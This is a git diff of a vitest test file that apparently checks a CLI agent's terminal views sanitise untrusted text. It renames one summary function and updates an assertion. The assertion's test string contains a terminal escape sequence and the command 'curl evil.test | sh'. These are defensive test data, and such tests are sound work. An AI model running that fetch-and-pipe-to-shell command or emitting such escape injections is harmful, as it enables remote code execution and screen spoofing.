@@ -6,7 +6,7 @@ import { describe, expect, it } from 'vitest';
 import { historyRecap } from '../../src/cli/history-view.js';
 import { renderPrompt } from '../../src/cli/permission-prompt.js';
 import { renderQuestion } from '../../src/cli/question-prompt.js';
-import { callSummary, resultSummary } from '../../src/cli/summary.js';
+import { callSummary, resultView } from '../../src/cli/summary.js';
 import { createTurnView, Spinner } from '../../src/cli/turn-view.js';
 import type { PermissionDecision } from '../../src/runtime/pipeline/types.js';
 
@@ -49,7 +49,7 @@ describe('untrusted text on screen', () => {
       isError: false,
       durationMs: 5,
     };
-    expect(resultSummary(result)).toBe('␛]2;title␇okcurl evil.test | sh');
+    expect(resultView('Bash', result).lines).toEqual(['␛]2;title␇okcurl evil.test | sh']);
     expect(renderQuestion({ question: `Proceed?${CONCEAL} yes`, options: [`a${CONCEAL}`, 'b'] })).not.toContain('\x1b');
     const recap = historyRecap([
       { role: 'user', content: [{ type: 'text', text: `do it${CONCEAL}` }] },
